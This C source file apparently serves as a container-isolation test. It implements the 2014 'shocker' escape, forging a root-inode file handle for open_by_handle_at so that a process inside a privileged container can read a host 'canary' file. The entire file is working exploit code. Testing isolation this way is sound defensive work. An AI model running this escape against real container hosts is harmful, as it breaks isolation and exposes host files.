/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * The "shocker" escape (2014, Docker): open_by_handle_at(2) opens a file by its file handle,
 * which names an inode of a file system, not a path: from any fd on the file system that holds
 * the container's rootfs, a handle for the file system's root inode opens the host's directory,
 * however deep the rootfs is below it. Needs CAP_DAC_READ_SEARCH, which a privileged container
 * keeps unless lxc.cap.drop names it or seccomp denies the call.
 *
 * usage: shocker MOUNT_FILE RELPATH
 *   MOUNT_FILE  any file inside the container on the rootfs' file system (e.g. /bin/busybox)
 *   RELPATH     path relative to the file system's root to read (the host canary)
 * Tries the root inode handle directly (ext4/ext2/xfs root: inode 2, generation 0, type
 * FILEID_INO32_GEN) and, failing that, the handle name_to_handle_at gives for MOUNT_FILE itself
 * (which proves the call works at all). Prints:
 *   name_to_handle_at=OK|ERR  open_by_handle_at(root)=OK|ERR  read=<first line>|ERR
 * and exits 0 when the host file was read (the attack worked), 1 when it was not.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static const char *e(void)
{
	return strerrorname_np(errno) ? strerrorname_np(errno) : "E?";
}

int main(int argc, char **argv)
{
	if (argc != 3) {
		fprintf(stderr, "usage: shocker MOUNT_FILE RELPATH\n");
		return 2;
	}
	int mfd = open(argv[1], O_RDONLY | O_CLOEXEC);
	if (mfd < 0) {
		printf("open %s: %s\n", argv[1], e());
		return 2;
	}
	struct {
		struct file_handle fh;
		unsigned char buf[MAX_HANDLE_SZ];
	} h = {.fh.handle_bytes = MAX_HANDLE_SZ};
	int mnt;
	if (name_to_handle_at(mfd, "", &h.fh, &mnt, AT_EMPTY_PATH) < 0) {
		printf("name_to_handle_at=%s\n", e());
	} else {
		printf("name_to_handle_at=OK type=%d bytes=%u\n", h.fh.handle_type,
		       h.fh.handle_bytes);
		int fd = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_CLOEXEC);
		printf("open_by_handle_at(own file)=%s\n", fd >= 0 ? "OK" : e());
		if (fd >= 0)
			close(fd);
	}
	/* The file system's root: FILEID_INO32_GEN, inode 2, generation 0. */
	struct {
		struct file_handle fh;
		unsigned int ino_gen[2];
	} root = {.fh.handle_bytes = 8, .fh.handle_type = 1, .ino_gen = {2, 0}};
	int rfd = open_by_handle_at(mfd, &root.fh, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (rfd < 0) {
		printf("open_by_handle_at(root)=%s\n", e());
		return 1;
	}
	printf("open_by_handle_at(root)=OK\n");
	int fd = openat(rfd, argv[2], O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		printf("read %s=%s\n", argv[2], e());
		return 1;
	}
	char buf[256];
	ssize_t n = read(fd, buf, sizeof(buf) - 1);
	if (n < 0) {
		printf("read %s=%s\n", argv[2], e());
		return 1;
	}
	buf[n] = '\0';
	buf[strcspn(buf, "\n")] = '\0';
	printf("read %s=%s\n", argv[2], buf);
	return 0;
}
